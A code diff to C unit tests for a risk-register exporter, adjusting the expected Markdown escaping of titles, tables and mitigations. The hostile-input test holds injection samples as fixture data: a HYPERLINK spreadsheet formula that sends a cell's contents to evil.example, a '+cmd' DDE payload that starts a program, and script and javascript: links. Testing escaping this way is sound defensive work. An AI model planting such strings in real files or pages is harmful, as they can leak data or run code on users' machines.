@@ -100,15 +100,15 @@ test_sample_md (void)
   g_assert_cmpstr (md, ==, golden);
 
   /* A few lines spelled out, so the golden file cannot drift unnoticed. */
-  g_assert_true (g_str_has_prefix (md, "# Risks: Billing service 4\\.2 upgrade\n\n"
-                                       "Score = likelihood × impact\\. Levels: Low 1–4, Medium 5–9, High 10–16, Critical 20–25\\.\n"));
+  g_assert_true (g_str_has_prefix (md, "# Risks: Billing service 4.2 upgrade\n\n"
+                                       "Score = likelihood × impact. Levels: Low 1–4, Medium 5–9, High 10–16, Critical 20–25.\n"));
   g_assert_nonnull (strstr (md, "\n| **Unlikely** | 0 · Low | **1** · Low | 0 · Medium | 0 · Medium | **1** · High |\n"));
   g_assert_nonnull (strstr (md, "\n| **Rare** | 0 · Low | 0 · Low | 0 · Low | 0 · Low | **1** · Medium |\n"));
   g_assert_nonnull (strstr (md, "\n| 1 | Backfill corrupts historic invoices | Data migration | 2 · Unlikely | "
                                 "5 · Catastrophic | 10 | High | 5 · Medium | Mei Lin | Open |\n"));
   g_assert_nonnull (strstr (md, "\n| 3 | Support not briefed on new invoice layout | User experience | 2 · Unlikely | "
                                 "2 · Minor | 4 | Low | — | — | Mitigated |\n"));
-  g_assert_true (g_str_has_suffix (md, "- Mitigation: Briefing one week before\\.\n- Contingency: —\n"));
+  g_assert_true (g_str_has_suffix (md, "- Mitigation: Briefing one week before.\n- Contingency: —\n"));
   fixture_close (&f);
 }
 
@@ -240,23 +240,23 @@ test_hostile_md (void)
 
   fixture_open (&f, json);
   md = upg_export_risks_md (f.project, NULL);
-  g_assert_true (g_str_has_prefix (md, "# Risks: Shop \\<3\\.0\\> \\& \"Co\" \\| \\#1\n\n"));
+  g_assert_true (g_str_has_prefix (md, "# Risks: Shop \\<3.0\\> \\& \"Co\" \\| #1\n\n"));
   g_assert_nonnull (strstr (md,
-    "\n| 1 | =HYPERLINK\\(\"http://evil\\.example/?\"\\&A1,\"Click\"\\) | Compatibility | 5 · Almost certain | "
-    "5 · Catastrophic | 25 | Critical | — | \\-Eve\\+1 | Open |\n"
-    "| 2 | \\<script\\>alert\\('x'\\)\\</script\\> \\& \\<b\\>bold\\</b\\> | User experience | 1 · Rare | "
+    "\n| 1 | \\=HYPERLINK(\"http://evil.example/?\"\\&A1,\"Click\") | Compatibility | 5 · Almost certain | "
+    "5 · Catastrophic | 25 | Critical | — | -Eve+1 | Open |\n"
+    "| 2 | \\<script\\>alert('x')\\</script\\> \\& \\<b\\>bold\\</b\\> | User experience | 1 · Rare | "
     "1 · Insignificant | 1 | Low | 1 · Low | — | Occurred |\n"
-    "| 3 | \\+cmd\\|' /C calc'\\!A0 | Security | 3 · Possible | 4 · Major | 12 | High | 4 · Low | \\-Eve\\+1 | Closed |\n"));
+    "| 3 | +cmd\\|' /C calc'!A0 | Security | 3 · Possible | 4 · Major | 12 | High | 4 · Low | -Eve+1 | Closed |\n"));
   g_assert_nonnull (strstr (md,
-    "\n1\\. **=HYPERLINK\\(\"http://evil\\.example/?\"\\&A1,\"Click\"\\)**\n\n"
+    "\n1\\. **\\=HYPERLINK(\"http://evil.example/?\"\\&A1,\"Click\")**\n\n"
     "- Mitigation: Line one, with comma<br>Line two \"quoted\"\n"
-    "- Contingency: \t=1\\+1\n"));
+    "- Contingency: \t=1+1\n"));
   g_assert_nonnull (strstr (md,
-    "\n2\\. **\\<script\\>alert\\('x'\\)\\</script\\> \\& \\<b\\>bold\\</b\\>**\n\n"
-    "- Mitigation: \\*star\\* \\_under\\_ \\[link\\]\\(javascript:alert\\(1\\)\\) \\| pipe \\# hash<br>1\\. item<br>\\- dash\n"
-    "- Contingency: @SUM\\(A1:A2\\)\n"));
+    "\n2\\. **\\<script\\>alert('x')\\</script\\> \\& \\<b\\>bold\\</b\\>**\n\n"
+    "- Mitigation: \\*star\\* \\_under\\_ \\[link\\](javascript:alert(1)) \\| pipe # hash<br>1. item<br>- dash\n"
+    "- Contingency: @SUM(A1:A2)\n"));
   g_assert_true (g_str_has_suffix (md,
-    "\n3\\. **\\+cmd\\|' /C calc'\\!A0**\n\n"
+    "\n3\\. **+cmd\\|' /C calc'!A0**\n\n"
     "- Mitigation: —\n"
     "- Contingency: —\n"));
   /* Nothing of the user's text survives raw. */
@@ -317,7 +317,7 @@ test_empty (void)
   g_assert_cmpstr (csv, ==, "title,category,likelihood,impact,score,level,residual_score,"
                             "owner,status,mitigation,contingency\r\n");
   md = upg_export_risks_md (f.project, NULL);
-  g_assert_true (g_str_has_suffix (md, "\n## Register\n\nNo risks recorded\\.\n"));
+  g_assert_true (g_str_has_suffix (md, "\n## Register\n\nNo risks recorded.\n"));
   html = upg_export_risks_html (f.project, NULL);
   g_assert_true (g_str_has_suffix (html, "<h2>Register</h2>\n<p>No risks recorded.</p>\n</body>\n</html>\n"));
   fixture_close (&f);
